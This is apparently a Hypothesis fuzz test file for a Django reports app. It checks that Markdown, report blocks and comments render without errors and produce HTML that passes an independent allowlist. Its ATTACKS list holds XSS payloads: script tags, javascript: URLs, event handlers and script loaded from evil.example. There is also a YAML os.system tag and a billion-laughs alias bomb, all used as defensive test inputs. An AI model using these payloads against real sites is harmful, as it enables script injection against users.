"""Hypothesis over the Markdown renderer, the Labbook block parser and comment rendering.

Whatever a report or comment body holds (arbitrary text, or text built from the
Markdown and HTML an attacker would try, or chart/runs/compare blocks with
arbitrary YAML options) rendering never raises, a bad block becomes a visible
error box, and the HTML is safe. Safety is checked independently of nh3: the
output is parsed with ``html.parser`` and every tag, attribute and URL is held
against the allowlists written here, not against ``markup``'s own.

Generation is derandomized (CI sees the same inputs every run); the example
counts keep the whole file well under a minute.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import pytest
import yaml
from django.utils.html import escape
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from reports_app import blocks, markup, render, services
from reports_app.models import Report
from tests.conftest import World
from tracking import selectors
from tracking import services as tracking_services
from tracking.ingest import Point, metrics_ingest

pytestmark = pytest.mark.soak  # a fuzz run: `pytest -m soak -n 0` (README)

FAST = settings(max_examples=200, derandomize=True, deadline=None, database=None)
WITH_DB = settings(
    FAST,
    max_examples=60,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# What rendered HTML may hold: Markdown's tags and the trusted HTML of the blocks.
SAFE_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt",
    "em", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "input", "kbd",
    "label", "li", "mark", "ol", "p", "pre", "s", "span", "strong", "sub", "summary", "sup",
    "table", "tbody", "td", "tfoot", "th", "thead", "tr", "ul",
}  # fmt: skip
SAFE_ATTRIBUTES = {
    "id", "title", "href", "src", "alt", "width", "height", "type", "checked", "disabled",
    "align", "start", "class", "rel", "role", "aria-label", "aria-hidden", "scope", "colspan",
    "data-block", "data-figure", "data-status-run", "data-summary-run", "data-summary-key",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")
OWN_ID = re.compile(r"r-.*|block-\d+", re.DOTALL)  # body ids are prefixed; blocks number theirs

ATTACKS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x]( javascript:alert(1) )",
    "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))", "<javascript:alert(1)>",
    "[r]: javascript:alert(1)\n\n[r]\n", "![i](data:image/svg+xml;base64,PHN2Zz4=)",
    "[d](data:text/html,<script>alert(1)</script>)", '<a href="vbscript:msgbox(1)">v</a>',
    "<img src=x onerror=alert(1)>", "<img src=javascript:alert(1)>", "<svg onload=alert(1)>",
    "<iframe src=//evil.example></iframe>", "<object data=x></object>", "<embed src=x>",
    '<p style="background:url(javascript:alert(1))">s</p>', "<style>*{}</style>",
    "<math><mi xlink:href=javascript:alert(1)>m</mi></math>", "<form><button>b</button></form>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>d</details>",
    '<a href="#x" id="report-config">c</a>', "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<!--", "-->", "<![CDATA[",
    "&lt;script&gt;", "<scr<script>ipt>", "\x02wzxhzdk:0\x03", "LBBLOCK0X0", "\x00", "\ud800",
    "\u202e", "\ufeff", "run:1", "run:999999999999999999", "@alice", "<http://a.example>",
]  # fmt: skip
MARKDOWN = [
    "\n", "\n\n", "    ", "\t", "# ", "## ", "> ", "- ", "1. ", "* ", "- [x] ", "---\n", "`",
    "``", "```\n", "````\n", "~~~\n", "```python\n", "```chart\n", "```runs\n", "```compare\n",
    "**", "_", "*", "[", "]", "(", ")", "![", "](", "<", ">", '"', "'", "=", "&", "\\", "|",
    "| a | b |\n|:--|--:|\n", "[^1]", "[^1]: note\n", "[TOC]\n", "<div>", "</div>", "<p>",
    "runs: [1]\n", "metrics: [loss]\n", "&amp;", "&#0;", "&#x110000;", "http://a.example/",
]  # fmt: skip
fragments = st.sampled_from(ATTACKS + MARKDOWN) | st.text(max_size=12)
hostile_text = st.lists(fragments, max_size=40).map("".join)
any_text = st.text(st.characters(codec=None, exclude_categories=()), max_size=400)

OPTION_NAMES = [
    "runs", "metrics", "x", "smoothing", "log_y", "title", "max_points", "live", "columns",
    "ids", "project", "tags", "status", "group", "name", "limit",
]  # fmt: skip
scalars = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.integers(min_value=-(2**80), max_value=2**80)
    | st.floats()
    | st.text(max_size=20)
    | st.sampled_from(["loss", "acc", "acme/mnist", "rival/x", "step", "time", "relative"])
    | st.sampled_from(["finished", "running", "resnet-*", "*", "config.lr", "summary.loss"])
)
option_values = st.recursive(
    scalars,
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(st.sampled_from(OPTION_NAMES) | st.text(max_size=6), inner, max_size=4)
    ),
    max_leaves=12,
)
options = st.dictionaries(
    st.sampled_from(OPTION_NAMES) | st.text(max_size=8), option_values, max_size=6
)
YAML_TRICKS = [
    "&a [1, 2]\n", "*a", "*b", "<<: *a\n", "!!python/object/apply:os.system ['true']\n",
    "!!binary aGk=\n", "? [a, b]\n: 1\n", "0x" + "f" * 40, "1:2:3:4:5:6:7", "9" * 5000,
    "2024-13-45", "2024-01-01 25:61:61", ".nan", ".inf", "~", '"\\0"', '"\\ud800"', "[" * 300,
    "{" * 300, "- " * 300, "\t", "%YAML 1.1\n", "--- ", "...", "@", "`", "'", '"', ": ", "- ",
]  # fmt: skip
BOMB = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 10)
)  # "billion laughs": 9**10 strings once every alias is followed
yaml_text = st.lists(
    st.sampled_from(YAML_TRICKS + [f"{name}: " for name in OPTION_NAMES]) | st.text(max_size=8),
    max_size=20,
).map("".join)


# --- The independent safety check ---------------------------------------------------------


class _Unsafe(HTMLParser):
    """Reads HTML as a browser would and lists whatever is not on this file's allowlists."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            self.problems += _attribute_problems(tag, name, value or "")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


# A run's colour swatch: our own palette (kernel.charts.run_color), never text from a report.
RUN_SWATCH = re.compile(r"background: #[0-9A-Fa-f]{6}")


def _attribute_problems(tag: str, name: str, value: str) -> list[str]:
    if (tag, name) == ("span", "style") and RUN_SWATCH.fullmatch(value):
        return []
    if name not in SAFE_ATTRIBUTES:  # on*, style, srcdoc, formaction, xlink:href, ...
        return [f"<{tag} {name}=...>"]
    if name in ("href", "src"):
        # As browsers parse a URL: outer spaces and controls go, then every tab and newline.
        url = re.sub(r"[\t\n\r]", "", value.strip("".join(map(chr, range(0x21))))).lower()
        scheme = SCHEME.match(url)
        if scheme and scheme[1] not in SAFE_SCHEMES:
            return [f"<{tag} {name}={value!r}>"]
    if name == "id" and not OWN_ID.fullmatch(value):
        return [f"<{tag} id={value!r}> could clobber the page's own ids"]
    return []


def assert_safe(html: str) -> None:
    checker = _Unsafe()
    checker.feed(html)
    checker.close()
    assert checker.problems == [], (checker.problems, html)


def test_the_checker_catches_what_it_is_for():
    """A check that cannot fail proves nothing: the checker must flag each of these."""
    for html in [
        "<script>x</script>",
        '<img src="x" onerror="alert(1)">',
        '<a href=" JaVa&#x09;script:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<p style="color:red">x</p>',
        "<iframe></iframe>",
        '<svg onload="x">',
        '<h1 id="report-config">x</h1>',
    ]:
        checker = _Unsafe()
        checker.feed(html)
        assert checker.problems, html


# --- Markdown (comments use it as is; reports add blocks) ----------------------------------


@FAST
@given(text=any_text)
def test_it_renders_any_text_without_raising(text):
    assert_safe(markup.to_html(text))


@FAST
@given(text=hostile_text)
@example(text="[" * 3000 + "<script>x</script>")
@example(text="```chart\n" + "[" * 500 + "\n```\n<img src=x onerror=alert(1)>")
def test_it_renders_hostile_markdown_safely(text):
    assert_safe(markup.to_html(text))


# --- Blocks ----------------------------------------------------------------------------------


@FAST
@given(kind=st.sampled_from(blocks.KINDS), chosen=options)
def test_any_block_options_parse_or_name_their_problem(kind, chosen):
    text = yaml.safe_dump(chosen, allow_unicode=True)
    try:
        parsed = render.parse_block(kind, text)
    except blocks.BlockError as error:
        assert error.message.strip()
    else:
        assert parsed.kind == kind


@FAST
@given(kind=st.sampled_from(blocks.KINDS), text=yaml_text)
@example(kind="chart", text=BOMB)
@example(kind="runs", text="runs: " + "[" * 5000 + "]" * 5000)
@example(kind="compare", text="runs: 0x" + "f" * 5000)
def test_any_block_text_parses_or_names_its_problem(kind, text):
    try:
        render.parse_block(kind, text)
    except blocks.BlockError as error:
        assert error.message.strip()


# --- Reports and comments, as the pages and the API render them ------------------------------


@pytest.fixture
def report(world: World) -> Report:
    """A report of acme/mnist, whose team has a run with a loss curve to chart."""
    run = tracking_services.run_create(
        user=world.owner.user, project=world.project, name="resnet", tags=["sweep"]
    )
    metrics_ingest(run=run, points=[Point("loss", step, 1 / (step + 1), 1e9) for step in range(5)])
    project = selectors.project_get_for_user(world.owner.user, "acme/mnist")
    return services.report_create(user=world.owner.user, project=project, title="Fuzz")


def _assert_errors_shown(rendered: render.Rendered) -> None:
    """Every block that could not be drawn is an error box that says why."""
    assert rendered.html.count('<div class="block-error"') == len(rendered.errors)
    for error in rendered.errors:
        message = error.split(": ", 1)[1]
        assert escape(message) in rendered.html, (error, rendered.html)


@WITH_DB
@given(text=hostile_text)
def test_a_report_body_renders_safely(report, text):
    rendered = render.render_report(report, body=text)
    assert_safe(rendered.html)
    _assert_errors_shown(rendered)


@WITH_DB
@given(kind=st.sampled_from(blocks.KINDS), chosen=options | options.map(lambda o: {"runs": 1, **o}))
def test_a_block_is_drawn_or_shows_its_error(report, kind, chosen):
    body = f"Before.\n\n```{kind}\n{yaml.safe_dump(chosen, allow_unicode=True)}```\n\nAfter.\n"
    rendered = render.render_report(report, body=body)
    assert_safe(rendered.html)
    _assert_errors_shown(rendered)
    drawn = {"chart": '<figure class="report-chart"', "runs": "runs-block", "compare": "diff-table"}
    assert len(rendered.errors) == 1 or drawn[kind] in rendered.html, rendered.html


@WITH_DB
@given(kind=st.sampled_from(blocks.KINDS), text=yaml_text)
def test_a_block_of_any_text_renders_safely(report, kind, text):
    rendered = render.render_report(report, body=f"```{kind}\n{text}\n```\n")
    assert_safe(rendered.html)
    _assert_errors_shown(rendered)


@WITH_DB
@given(body=hostile_text)
def test_a_comment_is_stored_or_refused_and_shown_safely(world, report, body):
    """Through the API, as comments arrive (``json`` escapes what is not ASCII)."""
    raw = json.dumps({"target": f"report:{report.pk}", "body": body})
    response = world.owner.client().post("/api/v1/comments", raw, content_type="application/json")
    if response.status_code == 400:  # blank, too long, a NUL or half a surrogate pair
        assert response.json()["error"]["field"] == "body"
        return
    assert response.status_code == 201, response.content
    assert_safe(response.json()["body_html"])
